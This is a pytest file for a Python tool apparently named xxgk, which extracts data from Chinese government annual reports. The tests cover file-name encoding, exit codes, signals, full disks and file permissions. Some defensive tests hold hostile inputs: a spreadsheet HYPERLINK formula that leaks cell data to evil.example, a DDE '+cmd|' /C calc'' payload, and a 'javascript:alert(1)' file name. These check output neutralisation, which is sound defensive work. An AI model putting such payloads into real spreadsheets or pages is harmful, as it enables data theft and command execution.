"""Batches that run unattended: any file name, any input list, one run per --out, signals, a full disk,
exit statuses cron can trust, and outputs that are safe to open."""

from __future__ import annotations

import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from xxgk.pipeline.cli import main
from xxgk.pipeline.inputs import path_of, source_name
from xxgk.pipeline.pool import Job, Limits, Pool
from xxgk.pipeline.publish import OutputLock

from .conftest import REPORTS, ROOT, csv_rows
from .pool_jobs import quick, slow_start

PAGE = REPORTS / "2025-pingtan.html"


def _copies(folder: Path, n: int) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):  # distinct bytes, so none is skipped as a duplicate
        (folder / f"{i:02d}.html").write_bytes(PAGE.read_bytes() + f"<!-- {i} -->".encode())
    return folder


def test_a_file_name_that_is_not_utf8_is_a_row_whose_source_round_trips(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    gbk = os.fsdecode(os.fsencode(str(docs)) + b"/" + "年报".encode("gbk") + b".html")  # as unzip of a Windows archive gives
    shutil.copy(PAGE, gbk)
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["extract", str(docs), "--out", str(out)])
    assert res.exit_code == 0, res.output
    (row,) = csv_rows(out / "reports.csv")
    assert row["status"] == "ok"
    # GBK 年报 is c4 ea b1 a8; "ea b1 a8" happens to be valid UTF-8 (걨), so only c4 is escaped.
    assert row["source"].endswith("/\\xc4걨.html"), row["source"]
    assert os.fsencode(path_of(row["source"])) == os.fsencode(gbk)


@pytest.mark.parametrize("name", ["年报.html", "a\\b.html", "plain.pdf"])
def test_source_names_of_valid_utf8_stay_as_they_are(name):
    assert source_name(Path("/d") / name) == f"/d/{name}"
    assert path_of(f"/d/{name}") == Path("/d") / name


def test_a_missing_path_among_good_ones_is_a_failed_row_and_the_batch_completes(tmp_path):
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["extract", str(PAGE), str(tmp_path / "gone.pdf"), str(REPORTS / "hzq2024.pdf"),
                                    "--out", str(out)])
    assert res.exit_code == 1, res.output
    rows = {Path(r["source"]).name: r for r in csv_rows(out / "reports.csv")}
    assert rows["gone.pdf"]["status"] == "failed" and rows["gone.pdf"]["error"].startswith("missing:")
    assert rows["2025-pingtan.html"]["status"] == "ok" and rows["hzq2024.pdf"]["status"] == "ok"


def test_a_batch_where_every_document_fails_exits_1(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.pdf").write_bytes(b"%PDF-1.7 garbage")
    (docs / "b.docx").write_bytes(b"PK\x03\x04 not a zip")
    res = CliRunner().invoke(main, ["extract", str(docs), "--out", str(tmp_path / "out")])
    assert res.exit_code == 1
    assert "2 documents: 2 failed" in res.output


def test_a_batch_where_every_document_reads_exits_0_partial_and_not_report_included(tmp_path):
    res = CliRunner().invoke(main, ["extract", str(REPORTS / "hzq2023.pdf"), str(REPORTS / "2016-pingtan.html"),
                                    "--out", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    assert "2 partial" in res.output


def test_a_second_run_on_the_same_out_says_so_and_exits_2(tmp_path):
    out = tmp_path / "out"
    with OutputLock(out):
        res = CliRunner().invoke(main, ["extract", str(PAGE), "--out", str(out)])
    assert res.exit_code == 2
    assert "in use by another xxgk run" in res.output
    assert not (out / "reports.csv").exists()


def test_no_documents_at_all_cannot_start(tmp_path):
    (tmp_path / "empty").mkdir()
    res = CliRunner().invoke(main, ["extract", str(tmp_path / "empty"), "--out", str(tmp_path / "out")])
    assert res.exit_code == 2 and "no documents found" in res.output


@pytest.mark.parametrize("status, said", [({}, "0 documents. 0 values;"), ({"ok": 2, "failed": 1}, "3 documents: 2 ok, 1 failed. 0 values;")])
def test_the_summary_line_lists_only_the_statuses_there_are(tmp_path, status, said):
    from collections import Counter

    from xxgk.pipeline.batch import BatchStats
    from xxgk.pipeline.progress import summary

    stats = BatchStats(status=Counter(status), documents=sum(status.values()))
    assert summary(stats, tmp_path, [], 1.0).startswith(said)


@pytest.mark.parametrize("option", [["--time-limit", "-5"], ["--memory-limit", "10"], ["--workers", "0"]])
def test_limits_that_would_fail_every_document_are_refused(tmp_path, option):
    res = CliRunner().invoke(main, ["extract", str(PAGE), "--out", str(tmp_path / "out"), *option])
    assert res.exit_code == 2 and "Invalid value" in res.output


def _cached(out: Path) -> int:
    try:
        with sqlite3.connect(out / ".xxgk" / "results.sqlite", timeout=1) as db:
            return db.execute("SELECT count(*) FROM results").fetchone()[0]
    except sqlite3.Error:
        return 0


@pytest.mark.parametrize("sig, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_mid_batch_stops_quietly_publishes_what_is_finished_and_exits_128_plus_n(tmp_path, sig, code):
    docs = _copies(tmp_path / "docs", 30)
    out = tmp_path / "out"
    proc = subprocess.Popen([sys.executable, "-m", "xxgk", "extract", str(docs), "--out", str(out), "-q", "-j", "2"],
                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    deadline = time.time() + 60
    while time.time() < deadline and _cached(out) < 3:
        time.sleep(0.05)
    assert proc.poll() is None, "the batch finished before the signal"
    # SIGINT goes to the whole process group, as a Ctrl-C on a terminal does; SIGTERM to the parent, as systemd does.
    os.killpg(proc.pid, sig) if sig == signal.SIGINT else proc.send_signal(sig)
    stdout, stderr = proc.communicate(timeout=120)
    assert proc.returncode == code, stderr
    assert "Traceback" not in stderr and "Aborted" not in stderr
    (line,) = stderr.strip().splitlines()  # one line says what happened, and nothing else
    assert line.startswith(f"stopped by {signal.Signals(sig).name} after ")
    rows = csv_rows(out / "reports.csv")
    assert 3 <= len(rows) <= 30 and all(r["status"] == "ok" for r in rows)
    assert not [p for p in out.iterdir() if p.name.startswith(".staging-") or p.name.endswith(".tmp")]
    # The next run, here in this process: a process of its own proves no more (the stopped one was).
    again = CliRunner().invoke(main, ["extract", str(docs), "--out", str(out), "-q"])
    assert again.exit_code == 0, again.output
    assert f"({len(rows)} finished by an earlier run)" in again.stdout  # nothing finished is read twice
    assert len(csv_rows(out / "reports.csv")) == 30


def test_the_document_clock_starts_when_a_ready_worker_takes_it():
    # Workers that need 2 s to start, documents that take none: none may time out at a 1 s limit.
    pool = Pool(workers=2, limits=Limits(seconds=1.0), fn=quick, warm_up=slow_start)
    with pool:
        reports = list(pool.map_ordered([Job(f"/none/{i}", f"doc{i}") for i in range(4)]))
    assert [r.status for r in reports] == ["ok"] * 4, [r.error for r in reports]


def test_a_full_disk_is_a_clear_error_naming_the_folder_and_the_previous_outputs_stay(tmp_path):
    mnt = tmp_path / "small"
    mnt.mkdir()
    # Room for one small report's outputs (about 0.3 MB with its page), not for fixtures/reports' (2.5 MB).
    made = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mnt)], capture_output=True)
    if made.returncode != 0:
        pytest.skip(f"mounting a small tmpfs is not allowed here ({made.stderr.decode().strip()}); it stands in for a full disk")
    try:
        out = mnt / "out"
        first = CliRunner().invoke(main, ["extract", str(REPORTS / "000_72ada0ed4d86cbfe.txt"), "--out", str(out)])
        assert first.exit_code == 0, first.output
        before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file() and not p.name.startswith(".")}
        res = CliRunner().invoke(main, ["extract", str(REPORTS), "--out", str(out)])
        assert res.exit_code == 1
        assert f"could not write the datasets into {out}: no space left on the device" in res.output
        assert "Traceback" not in res.output
        after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file() and not p.name.startswith(".")}
        assert after == before
        assert not [p for p in out.iterdir() if p.name.startswith(".staging-") or p.name.endswith(".tmp")]
    finally:
        subprocess.run(["umount", str(mnt)], capture_output=True)


def test_text_that_a_spreadsheet_would_run_is_neutralised_in_csv_and_xlsx_and_restored_elsewhere(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    docs = tmp_path / "docs"
    docs.mkdir()
    evil = '=HYPERLINK("evil.example?leak="&A1,"click").html'
    shutil.copy(PAGE, docs / evil)
    out = tmp_path / "out"
    cwd = os.getcwd()
    os.chdir(docs)  # the source is the name as given: it starts with "="
    try:
        res = CliRunner().invoke(main, ["extract", evil, "--out", str(out), "--format", "csv,xlsx,parquet"])
    finally:
        os.chdir(cwd)
    assert res.exit_code == 0, res.output
    (row,) = csv_rows(out / "reports.csv")
    assert row["source"] == "'" + evil
    sheet = openpyxl.load_workbook(out / "xxgk.xlsx")["reports"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=3, column=header.index("来源") + 1)  # rows 1 and 2: Chinese headers, column names
    assert cell.value == "'" + evil and cell.data_type == "s"
    import pandas as pd

    assert pd.read_parquet(out / "reports.parquet")["source"].tolist() == [evil]  # binary formats keep the text


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-1+1", "'-1+1"), ("'=x", "''=x"),  # a formula, or text that reads back as one
    ("-", "-"), ("—", "—"), ("-5", "-5"), ("+3.5", "+3.5"), ("0", "0"), ("平潭", "平潭"), ("'abc", "'abc"), ("", ""),
])
def test_the_formula_guard_on_both_sides_of_its_line(text, shown):
    from xxgk.pipeline.writers import safe_cell, unsafe_cell

    assert safe_cell(text) == shown
    assert unsafe_cell(shown) == text  # read back, the text is what the document printed


def test_links_in_the_qa_page_are_relative_paths_or_http_never_another_scheme(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    shutil.copy(REPORTS / "2016-pingtan.html", docs / "javascript:alert(1)x.html")  # a not-ok row: it is listed with a link
    cwd = os.getcwd()
    os.chdir(docs)
    try:
        res = CliRunner().invoke(main, ["extract", "javascript:alert(1)x.html", "--out", str(tmp_path / "out")])
    finally:
        os.chdir(cwd)
    assert res.exit_code == 0, res.output
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "href='javascript:" not in page
    assert "href='../docs/javascript%3Aalert%281%29x.html'" in page


def test_a_corrupt_state_file_cannot_start_and_says_what_to_do(tmp_path):
    (tmp_path / "state.sqlite").write_bytes(b"this is not a database" * 100)
    res = CliRunner().invoke(main, ["crawl", "http://127.0.0.1:9/", "--out", str(tmp_path)])
    assert res.exit_code == 2
    assert "not a readable xxgk crawl state" in res.output and "move it away" in res.output
    assert "Traceback" not in res.output


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_every_file_a_run_writes_follows_the_umask(tmp_path, umask, mode):
    from .hostile_site import HostileSite, file, html

    page = file(PAGE, "text/html; charset=utf-8")
    listing = html("<html><head><meta charset='utf-8'></head><body>"
                   "<a href='/r.html'>平潭综合实验区2025年政府信息公开工作年度报告</a></body></html>")
    old = os.umask(umask)
    try:
        with HostileSite({"/": listing, "/r.html": page}) as site:
            crawled = CliRunner().invoke(main, ["crawl", site.url("/"), "--out", str(tmp_path / "c"), "--delay", "0",
                                                "--contact", "t@example.org", "--format", "csv,xlsx"])
        extracted = CliRunner().invoke(main, ["extract", str(PAGE), "--out", str(tmp_path / "e"), "--format", "csv,parquet"])
    finally:
        os.umask(old)
    assert crawled.exit_code == 0 and extracted.exit_code == 0, crawled.output + extracted.output
    files = [p for p in tmp_path.rglob("*") if p.is_file() and not p.name.endswith(".lock")]
    assert any("store" in p.parts for p in files) and any(p.name == "report.html" for p in files)
    assert {p.relative_to(tmp_path).as_posix(): oct(p.stat().st_mode & 0o777) for p in files} == \
        {p.relative_to(tmp_path).as_posix(): oct(mode) for p in files}
